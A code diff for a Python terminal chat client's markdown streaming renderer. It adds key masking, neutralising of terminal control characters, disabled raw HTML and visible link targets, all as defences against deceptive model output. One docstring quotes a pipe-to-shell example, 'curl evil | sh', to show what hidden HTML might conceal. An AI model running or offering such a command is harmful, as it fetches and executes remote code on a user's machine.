@@ -24,15 +24,23 @@ from rich.console import Console
 from rich.text import Text
 
 from chatcli.keymode import KeyMode, quiet
-from chatcli.sanitize import neutralise
+from chatcli.sanitize import StreamNeutraliser, neutralise
+from chatcli.sink import StreamMasker
 
 if TYPE_CHECKING:
+    from markdown_it import MarkdownIt
+    from markdown_it.token import Token
     from rich.markdown import Markdown
 
 _FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
 _HEADING = re.compile(r"^ {0,3}#{1,6}(\s|$)")
 _RULE = re.compile(r"^ {0,3}([-*_])(\s*\1){2,}\s*$")
 _LIST_ITEM = re.compile(r"^ {0,3}([-*+]|\d{1,9}[.)])(\s|$)")
+
+# A block longer than this is written as plain text, in pieces, not rendered: rendering is
+# far from linear in a block's size, and SIGINT waits while a render is written.
+MAX_RENDERED_CHARS = 32_000
+PLAIN_PIECE_CHARS = 16_000
 
 
 class BlockSplitter:
@@ -140,7 +148,8 @@ class BlockSplitter:
 @contextmanager
 def _interrupts_held() -> Iterator[None]:
     """Ctrl-C in the middle of writing the live region would leave its record of what is on
-    screen out of step with the screen (a line shown twice); deliver it once the write is done."""
+    screen out of step with the screen (a line shown twice); deliver it once the write is done.
+    Only writes are held, never rendering, and no write is bigger than one bounded block."""
     if threading.current_thread() is not threading.main_thread():
         yield
         return
@@ -207,6 +216,7 @@ class RenderStats:
     frames: int = 0
     parsed_chars: int = 0  # markdown source handed to the parser, blocks and tail frames
     rendered_lines: int = 0
+    plain_chars: int = 0  # written unrendered: blocks over MAX_RENDERED_CHARS
 
 
 class MarkdownStream:
@@ -233,6 +243,8 @@ class MarkdownStream:
         self.stats = RenderStats()
         self.region = LiveRegion(self._write)
         self._splitter = BlockSplitter()
+        self._masker = StreamMasker()
+        self._neutraliser = StreamNeutraliser()
         self._clock = clock
         self._use_ticker = ticker
         self._open = False
@@ -256,21 +268,49 @@ class MarkdownStream:
             self._ticker.start()
         return self
 
-    def __exit__(self, *exc: object) -> None:
-        self.close()
+    def __exit__(self, kind: type[BaseException] | None, *exc: object) -> None:
+        if kind is not None and issubclass(kind, KeyboardInterrupt):
+            self.abandon()
+        else:
+            self.close()
 
     def feed(self, text: str) -> None:
-        with self._lock, _interrupts_held():
+        with self._lock:
             self.stats.chunks += 1
-            for block in self._splitter.feed(neutralise(text)):
+            text = self._neutraliser.feed(self._masker.feed(text))
+            for block in self._splitter.feed(text):
                 self._print_block(block)
             self._dirty = True
             if self._clock() - self._last_draw >= self.interval:
                 self._draw()
 
     def close(self) -> None:
+        """The unfinished block is printed for good."""
+        if self._stop_streaming():
+            with self._lock:
+                self._open = False
+                rest = self._neutraliser.feed(self._masker.flush()) + self._neutraliser.flush()
+                for block in self._splitter.feed(rest):
+                    self._print_block(block)
+                rest = self._splitter.flush()
+                if rest.strip():
+                    self._print_block(rest)
+                else:
+                    with _interrupts_held():
+                        self.region.show([])
+
+    def abandon(self) -> None:
+        """After Ctrl-C: what the live region shows stays, the rest of the unfinished block
+        is not rendered (it may be megabytes; the user asked to stop)."""
+        if self._stop_streaming():
+            with self._lock, _interrupts_held():
+                self._open = False
+                self._splitter.flush()
+                self.region.commit()
+
+    def _stop_streaming(self) -> bool:
         if not self._open:
-            return
+            return False
         self._stop.set()
         if self._ticker is not None:
             self._ticker.join()
@@ -278,13 +318,7 @@ class MarkdownStream:
         if self._keys is not None:
             self._keys.release()
             self._keys = None
-        with self._lock, _interrupts_held():
-            self._open = False
-            rest = self._splitter.flush()
-            if rest.strip():
-                self._print_block(rest)
-            else:
-                self.region.show([])
+        return True
 
     def _tick(self) -> None:
         while not self._stop.wait(self.interval):
@@ -297,26 +331,55 @@ class MarkdownStream:
         self.console.file.flush()
 
     def _draw(self) -> None:
-        """Show the unfinished block, cropped to the screen so the cursor can reach its top."""
+        """Show the unfinished block, cropped to half the screen, measured anew each frame.
+
+        When a terminal gets shorter it keeps the cursor's row and pushes the lines above
+        into the scrollback, where no cursor move can reach them: a region taller than the
+        new screen would leave copies there. Half the height keeps the whole region on
+        screen through any resize to at least half the height (120x40 → 70x20 and back).
+        """
         self._dirty = False
         self._last_draw = self._clock()
         self.stats.frames += 1
-        room = max(1, self.console.size.height - 1)
+        room = max(1, self.console.size.height // 2)
         tail, cut = self._splitter.tail_window(room, room * self.console.size.width)
         lines = self._render(tail, final=False)
-        self._cropped = cut or len(lines) > room
-        self.region.show(lines[-room:])
+        with _interrupts_held():
+            self._cropped = cut or len(lines) > room
+            self.region.show(lines[-room:])
 
     def _print_block(self, block: str) -> None:
-        lines = self._render(block, final=True)
+        if len(block) > MAX_RENDERED_CHARS:
+            self._print_plain(block)
+            return
+        lines = self._render(block, final=True)  # Ctrl-C may land here: nothing shown yet
         if not lines:
             return
-        if self._cropped:  # the top of the block never reached the screen: print it whole
+        with _interrupts_held():
+            if self._cropped:  # the top of the block never reached the screen: print it whole
+                self.region.show([])
+                self._cropped = False
+            self.region.show(lines)
+            self.region.commit()
+            self.blocks_printed += 1
+
+    def _print_plain(self, block: str) -> None:
+        """A huge block, as plain (already neutralised) text in bounded pieces: linear cost,
+        and Ctrl-C is never held for long. The live region is cleared first, so an interrupt
+        between pieces leaves nothing on screen out of step."""
+        with _interrupts_held():
             self.region.show([])
             self._cropped = False
-        self.region.show(lines)
-        self.region.commit()
-        self.blocks_printed += 1
+            if _FENCE.match(block.lstrip("\n")):
+                self.code_blocks.append(_code_body(block))
+            self.stats.plain_chars += len(block)
+            if self.blocks_printed:
+                self._write("\n")
+            self.blocks_printed += 1
+        body = block.rstrip("\n")
+        for start in range(0, len(body), PLAIN_PIECE_CHARS):
+            self._write(body[start : start + PLAIN_PIECE_CHARS])
+        self._write("\n")
 
     def _render(self, block: str, *, final: bool) -> list[str]:
         """The block's terminal lines exactly as they will stand once it is finished."""
@@ -358,10 +421,16 @@ def code_blocks(text: str) -> list[str]:
 
 
 class RawStream:
-    """For pipes and files: the model's text exactly as received, no ANSI, no wrapping."""
+    """For pipes and files: the model's text as received (configured keys masked), no ANSI,
+    no wrapping.
 
-    def __init__(self, out: IO[str]) -> None:
+    `neutral`: on a terminal (`--raw` there) the text is neutralised all the same.
+    """
+
+    def __init__(self, out: IO[str], *, neutral: bool = False) -> None:
         self.out = out
+        self._masker = StreamMasker()
+        self._neutraliser = StreamNeutraliser() if neutral else None
 
     def __enter__(self) -> RawStream:
         return self
@@ -370,27 +439,90 @@ class RawStream:
         self.close()
 
     def feed(self, text: str) -> None:
+        text = self._masker.feed(text)
+        if self._neutraliser is not None:
+            text = self._neutraliser.feed(text)
         self.out.write(text)
         self.out.flush()
 
     def close(self) -> None:
+        rest = self._masker.flush()
+        if self._neutraliser is not None:
+            rest = self._neutraliser.feed(rest) + self._neutraliser.flush()
+        self.out.write(rest)
         self.out.flush()
+
+    def abandon(self) -> None:
+        self.close()
+
+
+_PARSER: list[MarkdownIt] = []
+
+
+def _parser() -> MarkdownIt:
+    """rich's parser, with raw HTML turned off: a tag the model sends is shown as the text it
+    is, never hidden (`<div>curl evil | sh</div>` would otherwise vanish on screen)."""
+    if not _PARSER:
+        from markdown_it import MarkdownIt
+
+        parser = MarkdownIt("commonmark", {"html": False})
+        _PARSER.append(parser.enable("strikethrough").enable("table"))
+    return _PARSER[0]
 
 
 def chat_markdown(text: str, code_theme: str = "monokai") -> Markdown:
     """Markdown as chat users expect it: a single newline is a line break, as in ChatGPT, so
-    poems, addresses and plain line-by-line lists keep their lines.
+    poems, addresses and plain line-by-line lists keep their lines. Links show their real
+    target as `text (url)` (the url alone when it is the text), never as an OSC 8 hyperlink
+    whose shown text could lie; images show their alt text and source.
 
     rich.markdown (with markdown_it and pygments) loads here on first use, not at startup.
     """
     from rich.markdown import Markdown
 
-    markdown = Markdown(text, code_theme=code_theme)
+    markdown = Markdown("", code_theme=code_theme, hyperlinks=False)
+    markdown.markup = text
+    markdown.parsed = _parser().parse(text)
     for token in markdown.parsed:
-        for child in token.children or ():
-            if child.type == "softbreak":
-                child.type = "hardbreak"
+        if token.type in ("fence", "code_block"):
+            token.content = neutralise(token.content)
+        if token.children:
+            token.children = _plain_inline(token.children)
     return markdown
+
+
+def _plain_inline(children: list[Token]) -> list[Token]:
+    """Inline tokens made plain: what the parser decoded (entities such as `&#x202E;`) is
+    neutralised before rich measures it, so the lines keep the width rich gave them."""
+    out: list[Token] = []
+    for child in children:
+        if child.type in ("text", "code_inline"):
+            child.content = neutralise(child.content)
+        elif child.type == "link_open":
+            child.attrs["href"] = neutralise(str(child.attrs.get("href", "")))
+        elif child.type == "softbreak":
+            child.type = "hardbreak"
+        elif child.type == "image":
+            alt = "".join(c.content for c in child.children or ())
+            child.type, child.tag, child.nesting = "text", "", 0
+            source = neutralise(str(child.attrs.get("src", "")))
+            child.content = f"[{neutralise(alt)}] ({source})" if alt else f"[image] ({source})"
+            child.children = None
+        elif child.type == "link_close" and _bare_link(out):
+            out.pop(-2)
+            continue
+        out.append(child)
+    return out
+
+
+def _bare_link(out: list[Token]) -> bool:
+    """Whether the link just closed holds only its own target as text (an autolink)."""
+    return (
+        len(out) >= 2
+        and out[-2].type == "link_open"
+        and out[-1].type == "text"
+        and out[-1].content == str(out[-2].attrs.get("href", ""))
+    )
 
 
 def finished_markdown(text: str) -> Markdown:
